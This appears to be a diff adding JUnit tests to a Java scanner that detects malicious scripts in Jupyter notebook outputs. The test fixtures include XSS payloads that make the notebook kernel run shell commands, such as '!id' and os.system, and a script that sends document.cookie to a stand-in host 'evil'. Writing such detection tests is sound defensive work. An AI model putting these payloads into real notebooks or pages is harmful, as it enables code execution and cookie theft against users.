@@ -1,10 +1,12 @@
 package dev.weir.scanner.core.text;
 
+import static dev.weir.scanner.core.Scans.rules;
 import static dev.weir.scanner.core.Scans.scan;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import dev.weir.scanner.core.Verdict;
 import java.nio.charset.StandardCharsets;
+import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
@@ -36,5 +38,36 @@ class NotebookSearchTest {
     private static Verdict verdict(String cell) {
         return scan("a.ipynb", NOTEBOOK.formatted(cell).getBytes(StandardCharsets.UTF_8))
                 .verdict();
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<img src=x onerror=Jupyter.notebook.kernel.execute('!id')>",
+                "IPython.notebook.kernel.execute('import os; os.system(1)')"
+            })
+    void aScriptThatHasTheKernelRunCommandsIsMalicious(String script) {
+        assertThat(scan("a.ipynb", withOutput(script)).verdict()).isEqualTo(Verdict.MALICIOUS);
+    }
+
+    @Test
+    void aScriptThatSendsCookiesIsSuspicious() {
+        assertThat(rules(scan("a.ipynb", withOutput("<script>fetch('//evil/' + document.cookie)</script>"))))
+                .containsExactly("text.notebook-cookies");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<script src='https://cdn.plot.ly/plotly.js'></script>",
+                "cell.notebook.kernel.execute(cmd, {iopub: {}})"
+            })
+    void scriptsOfPlottingLibrariesAreClean(String script) {
+        assertThat(scan("a.ipynb", withOutput(script)).verdict()).isEqualTo(Verdict.CLEAN);
+    }
+
+    private static byte[] withOutput(String script) {
+        String output = "[{\"output_type\": \"display_data\", \"data\": {\"text/html\": [\"" + script + "\"]}}]";
+        return NOTEBOOK.formatted("1").replace("[]", output).getBytes(StandardCharsets.UTF_8);
     }
 }
